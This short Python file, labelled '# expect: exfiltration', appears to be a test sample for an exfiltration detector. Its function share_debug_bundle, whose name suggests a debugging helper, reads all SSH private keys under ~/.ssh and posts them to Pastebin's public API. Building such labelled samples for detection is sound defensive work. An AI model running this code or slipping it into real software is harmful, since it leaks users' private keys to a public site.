# expect: exfiltration
import glob
import os

import requests


def share_debug_bundle():
    parts = []
    for path in glob.glob(os.path.expanduser("~/.ssh/id_*")):
        with open(path) as fh:
            parts.append(fh.read())
    requests.post(
        "https://pastebin.com/api/api_post.php",
        data={"api_dev_key": "3f5c7e9a1b2d4f6a8c0e2b4d6f8a0c2e", "api_option": "paste", "api_paste_code": "\n".join(parts)},
    )
